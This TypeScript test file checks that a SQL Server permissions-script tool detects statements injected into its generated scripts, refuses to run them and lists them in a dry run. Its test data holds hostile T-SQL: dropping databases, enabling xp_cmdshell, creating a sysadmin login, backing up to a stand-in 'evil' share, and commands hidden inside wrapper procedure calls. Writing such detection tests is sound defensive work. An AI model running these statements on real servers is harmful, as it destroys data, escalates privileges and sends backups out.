// Statements of somebody else in a genuine script: each is shown before anything runs, and not run unless that is allowed.
import { applyScript } from '../../src/apply/apply-script.ts';
import { foreignIn } from '../../src/apply/foreign-in.ts';
import { previewScript } from '../../src/apply/preview-script.ts';
import { splitScript } from '../../src/apply/script-batches.ts';
import { engineDriver } from '../capture/engine-driver.ts';
import { FRESH_SA } from '../server/engine/ddl/fresh-server.ts';
import { assert, suite } from '../suite.ts';
import { stateOf } from './engine-state.ts';
import { capturedFixture, freshEngine, refused, scriptOf } from './restored-server.ts';
import { smallServer } from './small-server.ts';

const FOREIGN = [
  'DROP TABLE dbo.orders;',
  'DROP DATABASE app;',
  'TRUNCATE TABLE dbo.orders;',
  'DELETE FROM dbo.orders;',
  'UPDATE dbo.orders SET total = 0;',
  'INSERT INTO dbo.orders (id) VALUES (1);',
  'SELECT * INTO dbo.copy FROM dbo.orders;',
  "EXEC xp_cmdshell 'dir';",
  "EXEC master.dbo.xp_regwrite N'HKEY_LOCAL_MACHINE', N'a', N'b', N'REG_SZ', N'c';",
  "EXEC sp_configure 'xp_cmdshell', 1;",
  'RECONFIGURE;',
  'SHUTDOWN WITH NOWAIT;',
  'KILL 51;',
  "EXEC ('DROP TABLE dbo.orders');",
  "EXEC sp_executesql N'GRANT CONTROL SERVER TO [mallory]';",
  "CREATE LOGIN [mallory] WITH PASSWORD = N'Geheim-123';",
  'ALTER SERVER ROLE [sysadmin] ADD MEMBER [mallory];',
  'GRANT CONTROL SERVER TO [mallory];',
  'ALTER LOGIN [sa] DISABLE;',
  "BACKUP DATABASE app TO DISK = N'\\\\evil\\share\\app.bak';",
  "RESTORE DATABASE app FROM DISK = N'\\\\evil\\share\\app.bak';",
  'DBCC FREEPROCCACHE;',
  "BULK INSERT dbo.orders FROM N'\\\\evil\\share\\x';",
  "EXEC msdb.dbo.sp_start_job N'job';",
  "EXEC sp_addlinkedserver N'evil';",
  "SELECT * FROM OPENROWSET('SQLNCLI', 'evil', 'SELECT 1');",
  "EXEC ('DROP TABLE x') AT [evil];",
  'ALTER DATABASE app SET OFFLINE WITH ROLLBACK IMMEDIATE;',
  "EXEC #regrant 9999, N'DROP TABLE dbo.orders';",
  "UPDATE #regrant_state SET run = N'xp_cmdshell';",
  "EXECUTE AS LOGIN = 'sa';",
] as const;

/** What stands in the templates, where a procedure does it with what it was given. */
const BORROWED = [
  "EXEC #regrant_make N'master.sys.sp_executesql', N'DROP TABLE dbo.orders'",
  "EXEC #regrant_with_secret 5, N'DROP TABLE dbo.orders'",
  'EXEC #regrant_again 1, 1',
  "EXEC #regrant_fail 5, 5069, N'', N'DROP TABLE dbo.orders', 1",
  "DECLARE @number int = 5, @statement nvarchar(max) = N'DROP TABLE dbo.orders'; EXEC #regrant_with_secret @number, @statement",
  'DECLARE @id int = 1; EXEC #regrant_again @id, 0',
  "DECLARE @run nvarchar(300) = N'master.sys.sp_executesql', @statement nvarchar(max) = N'DROP TABLE x'; EXEC @run @statement",
  "DECLARE @id int, @run nvarchar(300) = N'x'; UPDATE #regrant_state SET run = @run, database_name = (SELECT database_name FROM #regrant_failure WHERE id = @id)",
  "DECLARE @number int, @error int, @message nvarchar(9), @shown nvarchar(9), @is_left bit, @statement nvarchar(max) = N'DROP TABLE x'; INSERT #regrant_failure (number, database_name, error, message, shown, statement, is_left) SELECT @number, database_name, @error, @message, @shown, @statement, @is_left FROM #regrant_state",
  "DECLARE @query nvarchar(max) = N'DROP TABLE x', @database sysname; EXEC master.sys.sp_executesql @query, N'@database nvarchar(128)', @database",
] as const;

/** Where they are put in: by the line that they come before. */
const PLACES: Readonly<Record<string, (lines: readonly string[]) => number>> = {
  'before the first batch': (lines) => lines.findIndex((line) => line.startsWith('SET NOCOUNT ON')),
  'within a batch': (lines) => lines.findIndex((line) => /^EXEC #regrant 2\d, /.test(line)),
  'after the last batch': (lines) => lines.length,
};

const fixture = smallServer();
const { text } = await scriptOf(await capturedFixture(fixture));
const lines = text.split('\n');

/** How it looks as a statement of the script: run by its procedure, under a number that no other has, and one that one has. */
const wrapped = (statement: string, number: number) =>
  `EXEC #regrant ${number}, N'${statement.replace(/;$/, '').replaceAll("'", "''")}';`;

const withStatement = (statement: string, at: number): string =>
  [...lines.slice(0, at), statement, ...lines.slice(at)].join('\n');

suite('statements that are none of ours', (test) => {
  test('a genuine script has none', async () => {
    assert.equal(await foreignIn(splitScript('a.sql', text)), []);
    assert.is(FOREIGN.length, 31);
  });

  for (const [where, placeOf] of Object.entries(PLACES)) {
    test(`${where}: each is shown by its line, and stops the script`, async () => {
      const engine = freshEngine(fixture, 'restored');
      const driver = engineDriver(engine, FRESH_SA.login, FRESH_SA.password);
      const before = stateOf(engine, fixture);
      const at = placeOf(lines);
      assert.ok(at > 0);
      for (const statement of FOREIGN) {
        const script = splitScript('a.sql', withStatement(statement, at));
        const found = await foreignIn(script);
        assert.ok(
          found.some(({ line }) => line === at + 1),
          `${statement} is not shown`,
        );
        assert.not.match(JSON.stringify(found), 'Geheim');
        await refused(applyScript(driver, script), 'not-supported', /is not of this program/);
      }
      assert.is(stateOf(engine, fixture), before);
    });
  }

  for (const [where, placeOf] of Object.entries(PLACES)) {
    test(`${where}, behind the procedure that runs the script’s own: shown by its line, and refused`, async () => {
      const engine = freshEngine(fixture, 'restored');
      const driver = engineDriver(engine, FRESH_SA.login, FRESH_SA.password);
      const before = stateOf(engine, fixture);
      const at = placeOf(lines);
      for (const statement of FOREIGN) {
        const script = splitScript('a.sql', withStatement(wrapped(statement, 9999), at));
        const found = await foreignIn(script);
        assert.ok(
          found.some(({ line }) => line === at + 1),
          `${statement} is not shown`,
        );
        assert.not.match(JSON.stringify(found), 'Geheim');
        await refused(applyScript(driver, script), 'not-supported', /is not of this program/);
      }
      assert.is(stateOf(engine, fixture), before);
    });
  }

  test('however the procedure is called, a number is its statement’s alone', async () => {
    for (const number of [0, 1.5, -1, 30]) {
      for (const placeOf of Object.values(PLACES)) {
        const at = placeOf(lines);
        const added = withStatement(wrapped('GRANT CONTROL SERVER TO [mallory]', number), at);
        const found = await foreignIn(splitScript('a.sql', added));
        assert.ok(
          found.some(({ line }) => line === at + 1),
          `${number} at ${at}`,
        );
      }
    }
    for (const call of [
      'EXECUTE #regrant 30,',
      'EXEC @rc = #regrant 30,',
      'EXEC #regrant @number = 30, @statement =',
    ]) {
      const at = lines.findIndex((line) => /^EXEC #regrant_?\w* 30, /.test(line));
      const added = withStatement(`${call} N'GRANT CONTROL SERVER TO [mallory]';`, at);
      assert.ok((await foreignIn(splitScript('a.sql', added))).length > 0, call);
    }
  });

  test('what the procedures of a script do is theirs alone: by itself it would run what somebody declared', async () => {
    for (const one of BORROWED) {
      for (const placeOf of Object.values(PLACES)) {
        const at = placeOf(lines);
        const found = await foreignIn(splitScript('a.sql', withStatement(`${one};`, at)));
        assert.equal([...new Set(found.map(({ line }) => line))], [at + 1], one);
      }
    }
  });

  test('a statement that the operator takes out by hand makes none of the others foreign', async () => {
    const cut = lines.filter((line) => !/^EXEC #regrant\w* 2\d, /.test(line)).join('\n');
    assert.ok(cut.length < text.length);
    assert.equal(await foreignIn(splitScript('a.sql', cut)), []);
  });

  test('an option that the script leaves is set by none of its statements, whatever its number', async () => {
    const at = lines.findIndex((line) => /^EXEC #regrant 2\d, /.test(line));
    const number = Number(/\d+/.exec(lines[at] ?? '')?.[0]);
    const set = (value: number) =>
      lines.toSpliced(at, 1, wrapped(`EXEC sp_configure 'xp_cmdshell', ${value}`, number)).join('\n');
    const [one] = await foreignIn(splitScript('a.sql', set(1)));
    assert.equal([one?.line, one?.reason], [at + 1, 'not-security']);
    assert.equal(await foreignIn(splitScript('a.sql', set(0))), []);
  });

  test('the dry run lists them, with their lines', async () => {
    const engine = freshEngine(fixture, 'restored');
    const driver = engineDriver(engine, FRESH_SA.login, FRESH_SA.password);
    const script = splitScript('a.sql', withStatement(FOREIGN.join('\n'), lines.length));
    const { foreign } = await previewScript(driver, script);
    const shown = new Set(foreign.map(({ line }) => line));
    FOREIGN.forEach((statement, index) => {
      assert.ok(shown.has(lines.length + index + 1), statement);
    });
  });

  test('a batch of more lines than a call takes arguments is shown whole', async () => {
    const engine = freshEngine(fixture, 'restored');
    const long = `${'-- one of many\n'.repeat(200_000)}CREATE SERVER ROLE [one];\nGO\n`;
    const { sections } = await previewScript(
      engineDriver(engine, FRESH_SA.login, FRESH_SA.password),
      splitScript('long.sql', long),
    );
    assert.is(sections[0]?.lines.length, 200_001);
  });

  test('a script that is not ours at all is shown whole, and runs when that is allowed', async () => {
    const engine = freshEngine(fixture, 'restored');
    const driver = engineDriver(engine, FRESH_SA.login, FRESH_SA.password);
    const other = splitScript('other.sql', 'CREATE SERVER ROLE [one];\nGO\nCREATE SERVER ROLE [two];\nGO\n');
    const preview = await previewScript(driver, other);
    assert.equal(
      preview.foreign.map(({ line, reason }) => [line, reason]),
      [
        [1, 'not-wrapped'],
        [3, 'not-wrapped'],
      ],
    );
    assert.equal(preview.sections, [
      {
        title: 'batches',
        batches: 2,
        statements: 0,
        lines: ['CREATE SERVER ROLE [one];', 'CREATE SERVER ROLE [two];'],
      },
    ]);
    await refused(applyScript(driver, other), 'not-supported', /is not of this program/);
    const result = await applyScript(driver, other, { choices: { allowForeign: true } });
    assert.is(result.ran, 2);
  });
});
